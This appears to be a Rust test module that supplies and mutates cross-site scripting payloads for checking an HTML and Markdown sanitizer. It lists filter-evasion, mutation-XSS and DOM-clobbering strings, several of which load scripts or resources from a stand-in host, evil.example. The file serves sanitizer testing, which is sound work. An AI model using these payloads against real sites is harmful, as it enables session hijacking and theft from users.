//! What somebody types who wants their script to run in another's browser, and how it is varied. Each calls `alert`, which the oracle listens to;
//! those that can't call it leave an element whose name begins with `clobber`, or load something of another host, `evil.example`.

/// The kinds of OWASP's cheat sheet on filter evasion.
const PLAIN: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script\u{0c}>alert(1)</script >",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"alert(1)\"//",
    "<img/src=x/onerror=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src='x' onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<img src=x:x onerror=&#0000097lert(1)>",
    "<img src=//evil.example/x.png>",
    "<img srcset=\"//evil.example/y.png 1x\">",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=x onerror=alert(1)/></svg>#x\"/>",
    "<body onload=alert(1)>",
    "<body background=javascript:alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x onerror=alert(1)></applet>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=\"data:text/html,<script>alert(1)</script>\">",
    "<form action=javascript:alert(1)><button autofocus onfocus=alert(1)>x</button></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<div style=\"background:url(//evil.example/z.png)\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<div onpointerrawupdate=alert(1) style=\"position:fixed;inset:0\">x</div>",
    "<style>@import '//evil.example/a.css';</style>",
    "<style onload=alert(1)></style>",
    "<x onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>x</x>",
    "<p popover id=x onbeforetoggle=alert(1)>x</p><button popovertarget=x>y</button>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\" \u{1}javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=x target=_blank onclick=alert(1)>x</a>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script>",
    "--!><img src=x onerror=alert(1)>",
    "]]><img src=x onerror=alert(1)>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onmouseover=alert(1) autofocus onfocus=alert(1) x=\"",
    "' autofocus onfocus=alert(1) x='",
    "`autofocus onfocus=alert(1)`",
    "{\"@type\":\"x\"}</script><script>alert(1)</script>",
    "\\\"};alert(1);//",
    "${alert(1)}{{constructor.constructor('alert(1)')()}}",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
];

/// What a parser and the parser after it read differently (`mXSS`), as in the advisories on `ammonia`: elements of SVG and `MathML` that come back into
/// HTML, comments and raw text that end elsewhere the second time, styles whose addresses are not what they seem, animations of attributes.
const REPARSED: &[&str] = &[
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math></p><style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<math><annotation-xml encoding=\"a\"><svg><foreignObject><style><!--</style><p id=\"--><img src=x onerror=alert(1)>\">",
    "<svg><desc><style><a title=\"</style><img src=x onerror=alert(1)>\"></style></desc></svg>",
    "<svg><title><noembed><style><img title=\"</style></noembed></title></svg><img src=x onerror=alert(1)>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\"></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<template><img src=x onerror=alert(1)></template>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=alert(1)>\">",
    "<selectedcontent><img src=x onerror=alert(1)></selectedcontent>",
    "<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror=alert(1)></option></select>",
    "<table><td><svg><td><style><!--</style></td><img src=x onerror=alert(1)>-->",
    "<svg><p><style><!--</style></p><img src=x onerror=alert(1)>-->",
    "<div><!--!-><img src=x onerror=alert(1)>--></div>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>",
    "<svg><a><set attributeName=href to=javascript:alert(1) /><text y=20>x</text></a></svg>",
    "<svg><animation href=//evil.example/a.svg /><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<p style=\"background:URL('//evil.example/s.png')\">x</p>",
    "<p style=\"background:url(x');content:'</style><img src=x onerror=alert(1)>)\">x</p>",
    "<p style=\"animation-name:x\" onanimationstart=alert(1)>x</p>",
    "<b><p></b><svg><b></p><style><!--</style><img src=x onerror=alert(1)>-->",
];

/// Elements whose names a script of the page would find in the place of what it looks for (DOM clobbering), and ways through Markdown.
const MARKED: &[&str] = &[
    "<form id=clobber><input name=attributes><input name=parentNode></form>",
    "<a id=clobber-config></a><a id=clobber-config name=url href=\"javascript:alert(1)\"></a>",
    "<img name=clobber-getElementById src=x>",
    "<form name=clobber><output id=clobber-x>1</output></form>",
    "<iframe name=clobber srcdoc=\"<a id=self href=javascript:alert(1)></a>\"></iframe>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](java&Tab;script&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](  javascript:alert(1)  'title')",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](x\" onclick=\"alert(1))",
    "[x](x 'a\" autofocus onfocus=alert(1) b=\"')",
    "![x](x\" onerror=\"alert(1))",
    "![x](javascript:alert(1))",
    "![\" onerror=alert(1) x=\"](/picture/1.jpg)",
    "![x](//evil.example/picture/1.jpg)",
    "![x](/picture/../static/x.svg \"><img src=x onerror=alert(1)>\")",
    "![x](/picture/../../evil)",
    "<javascript:alert(1)>",
    "<https://evil.example/\"onmouseover=\"alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x][y]\n\n[y]: <data:text/html,<script>alert(1)</script>>",
    "```\"><img src=x onerror=alert(1)>\nx\n```",
    "```html onload=alert(1)\n</code></pre><img src=x onerror=alert(1)>\n```",
    "`<img src=x onerror=alert(1)>`",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <svg/onload=alert(1)> |",
    "> <script>\n> alert(1)\n> </script>",
    "# <img src=x onerror=alert(1)> {#clobber}",
    "- <details open ontoggle=alert(1)>\n- x",
    "{{card \"><img src=x onerror=alert(1)>}}",
    "{{document <script>alert(1)</script>}}",
    "{{fact <svg/onload=alert(1)>}}",
    "{{receipt 441300 \"onfocus=alert(1)}}",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\<img src=x onerror=alert(1)\\>",
    "<div markdown=1>\n\n<img src=x onerror=alert(1)>\n\n</div>",
];

/// All of them, as they are written above.
pub(crate) fn all() -> Vec<&'static str> {
    [PLAIN, REPARSED, MARKED].concat()
}

/// So many variations, the same each time: first all payloads as they are, as far as they fit, then mutations.
pub(crate) fn varied(count: usize) -> Vec<String> {
    let all = all();
    // A small run takes some of each kind.
    let step = (all.len() / count.max(1)).max(1);
    let plain = all.iter().step_by(step).take(count).map(|payload| (*payload).to_owned());
    let mut dice = Dice(7);
    let mut varied: Vec<String> = plain.collect();
    while varied.len() < count {
        let mut text = dice.pick(&all).to_owned();
        for _ in 0..=dice.below(3) {
            text = mutated(&text, &all, &mut dice);
        }
        varied.push(text);
    }
    varied
}

/// Numerical Recipes' generator: random enough to be nothing, and the same each time.
struct Dice(u32);

impl Dice {
    fn below(&mut self, end: usize) -> usize {
        self.0 = self.0.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        (self.0 >> 8) as usize % end.max(1)
    }

    fn pick<'a>(&mut self, from: &[&'a str]) -> &'a str {
        from[self.below(from.len())]
    }
}

/// What it is put into: elements in which parsers change their rules, Markdown's own marks, and the ends of what a page puts around it.
const AROUND: &[(&str, &str)] = &[
    ("<svg>", "</svg>"),
    ("<math><mtext>", "</mtext></math>"),
    ("<math><annotation-xml encoding=text/html>", "</annotation-xml></math>"),
    ("<svg><foreignObject>", "</foreignObject></svg>"),
    ("<style>", "</style>"),
    ("<noscript>", "</noscript>"),
    ("<template>", "</template>"),
    ("<select>", "</select>"),
    ("<table><tr>", "</tr></table>"),
    ("<title>", "</title>"),
    ("<textarea>", "</textarea>"),
    ("<p title=\"", "\">"),
    ("<!--", "-->"),
    ("<b><p></b>", "</p>"),
    ("[x](", ")"),
    ("![", "](/picture/1.jpg)"),
    ("[", "](https://example.org/)"),
    ("**", "**"),
    ("`", "`"),
    ("> ", "\n"),
    ("- ", "\n"),
    ("| ", " |\n|---|\n"),
    ("\n```\n", "\n```\n"),
    ("{{card ", "}}"),
    ("\"><", ">"),
    ("'/>", "<!--"),
];

fn mutated(text: &str, all: &[&str], dice: &mut Dice) -> String {
    match dice.below(9) {
        0 => inserted(
            text,
            dice.pick(&["\0", "\t", "\n", "\r", "\u{b}", "\u{c}", "\u{200b}", "\u{2028}", "/", "\\"]),
            dice,
        ),
        1 => {
            let (before, after) = AROUND[dice.below(AROUND.len())];
            format!("{before}{text}{after}")
        }
        2 => text.chars().map(|c| if dice.below(2) == 0 { c.to_ascii_uppercase() } else { c }).collect(),
        3 => text.replacen('<', "&lt;", 1 + dice.below(3)),
        4 => {
            let number = |c: char| format!("&#x{:x};", u32::from(c));
            text.chars().map(|c| if dice.below(8) == 0 { number(c) } else { c.to_string() }).collect()
        }
        5 => inserted(text, dice.pick(all), dice),
        6 => {
            let at = dice.below(text.chars().count());
            text.chars().enumerate().filter(|(place, _)| *place != at).map(|(_, c)| c).collect()
        }
        7 => text.replace('"', dice.pick(&["'", "`", "", "&quot;"])),
        _ => text.chars().take(1 + dice.below(text.chars().count())).collect(),
    }
}

fn inserted(text: &str, what: &str, dice: &mut Dice) -> String {
    let at = dice.below(text.chars().count() + 1);
    let before: String = text.chars().take(at).collect();
    let after: String = text.chars().skip(at).collect();
    format!("{before}{what}{after}")
}
